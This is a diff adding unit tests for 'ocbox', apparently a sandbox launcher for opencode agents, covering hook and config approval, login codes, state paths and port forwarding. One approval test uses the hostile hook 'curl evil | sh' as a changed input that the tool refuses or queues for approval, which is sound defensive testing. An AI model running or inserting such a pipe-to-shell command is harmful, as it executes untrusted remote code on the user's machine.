@@ -1,0 +1,218 @@
+import { describe, expect, it } from "vitest";
+import { parseProjectConfig } from "../../src/config/parse.js";
+import { approvalDecision, changedInputs, currentApprovals } from "../../src/project/approval.js";
+import { addGitignoreEntries } from "../../src/project/gitignore.js";
+import { parseEnvZ } from "../../src/project/hook.js";
+import { ocboxYamlTemplate } from "../../src/project/init-templates.js";
+import { LoginCodes, cookieValue, withoutCookie } from "../../src/project/login-codes.js";
+import { formatUptime, sandboxRows } from "../../src/project/sandbox-list.js";
+import { loopbackPort, projectSpec } from "../../src/project/spec.js";
+import { logFileName, stateLayout } from "../../src/project/state-layout.js";
+import { startupSummary } from "../../src/project/summary.js";
+import { attachArgv } from "../../src/project/attach.js";
+
+describe("state layout", () => {
+  it("puts everything under $XDG_STATE_HOME/ocbox/sandboxes/<id>", () => {
+    const s = stateLayout("app-1a2b3c4d", { XDG_STATE_HOME: "/st" });
+    expect(s).toMatchObject({
+      dir: "/st/ocbox/sandboxes/app-1a2b3c4d",
+      password: "/st/ocbox/sandboxes/app-1a2b3c4d/password",
+      dataDir: "/st/ocbox/sandboxes/app-1a2b3c4d/home-local/share/opencode",
+      approved: "/st/ocbox/sandboxes/app-1a2b3c4d/approved.json",
+    });
+    expect(logFileName(new Date("2026-01-02T03:04:05.006Z"), "ab12")).toBe(
+      "2026-01-02T03-04-05-006Z-ab12.log",
+    );
+  });
+});
+
+describe("hook and config approval", () => {
+  const inputs = { hook: "aws sso login\n", config: "name: app\n" };
+  const approved = currentApprovals(inputs);
+  it("proceeds when nothing changed, and when there is no hook at all", () => {
+    expect(approvalDecision(approved, inputs, { flag: false, interactive: false })).toEqual({
+      action: "proceed",
+    });
+    expect(changedInputs({ config: approved.config }, { hook: undefined, config: inputs.config })).toEqual(
+      [],
+    );
+  });
+  it("a changed hook is refused with no terminal and no flag, asked on a terminal, recorded with the flag", () => {
+    const changed = { ...inputs, hook: "curl evil | sh\n" };
+    expect(approvalDecision(approved, changed, { flag: false, interactive: false })).toEqual({
+      action: "refuse",
+      changed: ["hook"],
+    });
+    expect(approvalDecision(approved, changed, { flag: false, interactive: true }).action).toBe("ask");
+    expect(approvalDecision(approved, changed, { flag: true, interactive: false }).action).toBe("record");
+  });
+  it("a changed config needs approval too; a first run has nothing approved", () => {
+    expect(
+      changedInputs(approved, { ...inputs, config: "name: app\nenv: {map: {X: AWS_SECRET}}\n" }),
+    ).toEqual(["config"]);
+    expect(changedInputs({}, inputs)).toEqual(["hook", "config"]);
+  });
+});
+
+describe(".gitignore edit", () => {
+  it("adds only what is missing, once, under a comment", () => {
+    expect(addGitignoreEntries("", ["/.ocbox/pre-start.sh"])).toBe("# ocbox\n/.ocbox/pre-start.sh\n");
+    expect(addGitignoreEntries("node_modules/", ["/.ocbox/pre-start.sh"])).toBe(
+      "node_modules/\n\n# ocbox\n/.ocbox/pre-start.sh\n",
+    );
+    const text = "dist/\n.ocbox/pre-start.sh\n";
+    expect(addGitignoreEntries(text, ["/.ocbox/pre-start.sh"])).toBe(text);
+  });
+});
+
+describe("login codes", () => {
+  it("a code works once and expires after 60 s; sessions are recognised", () => {
+    let now = 0;
+    const codes = new LoginCodes({ now: () => now });
+    const a = codes.mint();
+    const session = codes.redeem(a);
+    expect(session).toBeTypeOf("string");
+    expect(codes.isSession(session)).toBe(true);
+    expect(codes.redeem(a)).toBeUndefined();
+    const b = codes.mint();
+    now = 60_000;
+    expect(codes.redeem(b)).toBeUndefined();
+    expect(codes.isSession("forged")).toBe(false);
+    expect(codes.isSession(undefined)).toBe(false);
+  });
+  it("reads and strips ocbox's cookie", () => {
+    expect(cookieValue("a=1; ocbox_5=xyz; b=2", "ocbox_5")).toBe("xyz");
+    expect(withoutCookie("a=1; ocbox_5=xyz; b=2", "ocbox_5")).toBe("a=1; b=2");
+    expect(withoutCookie("ocbox_5=xyz", "ocbox_5")).toBeUndefined();
+  });
+});
+
+describe("startup summary", () => {
+  it("lists passed and skipped names, never values", () => {
+    const lines = startupSummary({
+      sandboxId: "app-1",
+      project: "/p",
+      url: "http://127.0.0.1:5000",
+      env: {
+        passed: ["OPENAI_API_KEY"],
+        skipped: [{ name: "GH_TOKEN", code: "unset", reason: "host variable GH_TOKEN is not set" }],
+      },
+      forwardPorts: [8080],
+      stateDir: "/s",
+      readyS: 2.04,
+      detached: true,
+      hookRan: false,
+    }).join("\n");
+    expect(lines).toContain("env       OPENAI_API_KEY");
+    expect(lines).toContain("skipped   GH_TOKEN: host variable GH_TOKEN is not set");
+    expect(lines).toContain("`ocbox down` stops it");
+  });
+});
+
+describe("sandbox rows", () => {
+  it("one row per run with an agent, URL from the port label, state from health", () => {
+    const labels = (role: string) => ({
+      "dev.ocbox.sandbox": "app-1",
+      "dev.ocbox.run": "r1",
+      "dev.ocbox.role": role,
+      "dev.ocbox.port": "5000",
+      "dev.ocbox.workspace": "/p",
+      "dev.ocbox.started-at": "2026-01-01T00:00:00.000Z",
+      "dev.ocbox.lifetime": "detached",
+    });
+    const base = { image: "i", createdAt: new Date(0) };
+    const rows = sandboxRows(
+      [
+        {
+          ...base,
+          id: "a",
+          name: "x-agent",
+          state: "running",
+          status: "Up 2 minutes (healthy)",
+          labels: labels("agent"),
+        },
+        { ...base, id: "e", name: "x-egress", state: "running", status: "Up", labels: labels("egress") },
+      ],
+      new Date("2026-01-01T00:02:05.000Z"),
+    );
+    expect(rows).toEqual([
+      expect.objectContaining({
+        sandboxId: "app-1",
+        url: "http://127.0.0.1:5000",
+        state: "running",
+        uptimeS: 125,
+        project: "/p",
+        containerIds: ["a", "e"],
+      }),
+    ]);
+    expect(formatUptime(125)).toBe("2m 05s");
+    expect(formatUptime(3 * 3600 + 60)).toBe("3h 01m");
+  });
+});
+
+describe("project spec", () => {
+  const text =
+    ocboxYamlTemplate("app") + "model:\n  baseURL: http://localhost:8080\n  models:\n    fast: {}\n";
+  const config = parseProjectConfig(text, "ocbox.yaml");
+  const project = { root: "/p", file: "/p/ocbox.yaml", config, name: "app", sandboxId: "app-1" };
+  const base = {
+    project,
+    images: { sandbox: "s", egress: "e" },
+    state: stateLayout("app-1", { XDG_STATE_HOME: "/st" }),
+    password: "pw",
+    agentUser: { uid: 1000, gid: 1000 },
+    hostUser: { uid: 1000, gid: 1000 },
+    runId: "r1",
+    lifetime: "detached" as const,
+    authFile: "/home/u/.local/share/opencode/auth.json",
+  };
+  it("the init template is a valid config", () => {
+    expect(config.name).toBe("app");
+  });
+  it("forwards loopback model ports, pins localhost to 127.0.0.1, mounts opencode.json read-only", () => {
+    const { spec, env } = projectSpec({
+      ...base,
+      hostEnv: { OPENAI_API_KEY: "k", UNRELATED: "x" },
+      opencodeJson: {
+        file: "/p/opencode.json",
+        config: { provider: { o: { options: { baseURL: "http://127.0.0.1:9000/v1" } } } },
+      },
+    });
+    expect(spec.forwardPorts).toEqual([8080, 9000]);
+    expect(JSON.stringify(spec.opencodeConfig)).toContain("http://127.0.0.1:8080/v1");
+    expect(spec.extraMounts).toContainEqual({
+      type: "bind",
+      source: "/p/opencode.json",
+      target: "/workspace/opencode.json",
+      readOnly: true,
+    });
+    expect(spec).toMatchObject({
+      password: "pw",
+      dataDir: base.state.dataDir,
+      hostPort: 0,
+      lifetime: "detached",
+    });
+    expect(env.passed).toEqual(["OPENAI_API_KEY"]);
+    expect(spec.env).not.toHaveProperty("UNRELATED");
+  });
+  it("--port wins over ports.server", () => {
+    expect(projectSpec({ ...base, hostEnv: {}, port: 4555 }).spec.hostPort).toBe(4555);
+    expect(loopbackPort("https://api.openai.com/v1")).toBeUndefined();
+    expect(loopbackPort("http://localhost/v1")).toBe(80);
+  });
+});
+
+describe("hook env and attach argv", () => {
+  it("parses env -0 output", () => {
+    expect(parseEnvZ("A=1\0B=x=y\0\0")).toEqual({ A: "1", B: "x=y" });
+  });
+  it("attach puts no password in argv", () => {
+    expect(attachArgv("/bin/opencode", "http://127.0.0.1:5")).toEqual([
+      "/bin/opencode",
+      "attach",
+      "http://127.0.0.1:5",
+      "--dir",
+      "/workspace",
+    ]);
+  });
+});
